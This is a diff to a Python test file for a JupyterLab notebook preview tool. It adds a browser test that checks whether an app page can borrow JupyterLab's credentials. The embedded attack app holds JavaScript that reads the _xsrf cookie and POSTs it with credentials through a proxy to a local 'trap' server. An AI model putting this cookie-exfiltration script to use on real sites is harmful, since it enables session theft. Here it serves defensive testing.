@@ -1,9 +1,13 @@
 """The preview's attack list (issue 28): one test per attack class, so that the next round starts from it.
 Generated code stays data; what the preview's page reports is validated in the kernel; bad preview arguments are one line;
 an app page in a direct preview cannot borrow JupyterLab's credentials."""
-import ast, json, socket, uuid
+import ast, json, socket, threading
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlsplit
 import pytest
 from fhnb.preview import test_cell, preview
+from harness import frame, open_notebook, run_all_cells, write_notebook
 
 # ---------- 1. copy as test: whatever the app or the page returned stays data in the generated cell ----------
 
@@ -105,3 +109,51 @@ def test_page_reports_are_validated_in_the_kernel(kernel, tmp_path):
         assert r.stdout.split() == ["''", '/', 'auto', 'True'], r.stdout
         with pytest.raises(BlockingIOError): trap.accept()   # no fetch went to the other port
     finally: trap.close()
+
+# ---------- 3. an app page in a direct preview cannot borrow JupyterLab's credentials ----------
+
+ATTACK_APP = '''from fasthtml.common import *
+app, rt = fast_app()
+@rt('/')
+def get(session):
+    session['n'] = session.get('n', 0) + 1
+    return Titled('Attack', P(f"visits {{session['n']}}", id='n'), Script("""
+window.__attack = (async () => {{
+  const xsrf = (document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || '';
+  let sent = 'no answer';
+  try {{ sent = (await fetch('{lab}/proxy/{trap}/steal', {{ method: 'POST', credentials: 'include', mode: 'no-cors',
+                                                       body: new URLSearchParams({{ _xsrf: decodeURIComponent(xsrf) }}) }})).type; }}
+  catch (e) {{ sent = 'refused'; }}
+  return {{ cookie: document.cookie, sent }};
+}})();"""))'''
+
+@contextmanager
+def trap_server():
+    "A loopback HTTP server that records every request it gets: where a stolen POST through the proxy would land."
+    got = []
+    class Rec(BaseHTTPRequestHandler):
+        def do_POST(self): got.append((self.path, self.headers.get('cookie'))); self.send_response(200); self.end_headers()
+        do_GET = do_POST
+        def log_message(self, *a): pass
+    srv = ThreadingHTTPServer(('127.0.0.1', 0), Rec)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    try: yield srv.server_address[1], got
+    finally: srv.shutdown(); srv.server_close()
+
+@pytest.mark.browser
+@pytest.mark.parametrize('host', ['localhost', '127.0.0.1'])
+def test_app_page_cannot_borrow_jupyterlab_credentials(lab, page, host):
+    "JupyterLab at `host`: the direct preview's page is on the other loopback name; its script sees no `_xsrf`, its POST through jupyter-server-proxy carries no login; its session lasts."
+    with trap_server() as (trap, got):
+        write_notebook(lab.root/'attack.ipynb', ATTACK_APP.format(lab=f'http://{host}:{lab.port}', trap=trap), "from fhnb import *\nserve_nb(app)", "preview('/')")
+        open_notebook(page, lab, 'attack.ipynb', host=host)
+        assert any(c['name'] == '_xsrf' for c in page.context.cookies())   # JupyterLab's page has it: there is something to steal
+        run_all_cells(page)
+        f = frame(page, 0)
+        f.wait_for_selector('#n:has-text("visits 1")')
+        assert urlsplit(f.url).hostname == {'localhost': '127.0.0.1', '127.0.0.1': 'localhost'}[host]
+        stolen = f.evaluate('window.__attack')
+        assert '_xsrf' not in stolen['cookie'] and 'username-' not in stolen['cookie'], stolen
+        assert got == [], got   # the POST never reached the port behind the proxy: it carried no Jupyter login
+        page.locator('.fhnb-preview button[title="Reload"]').click()
+        frame(page, 0).wait_for_selector('#n:has-text("visits 2")', timeout=10_000)   # the app's own session cookie was kept
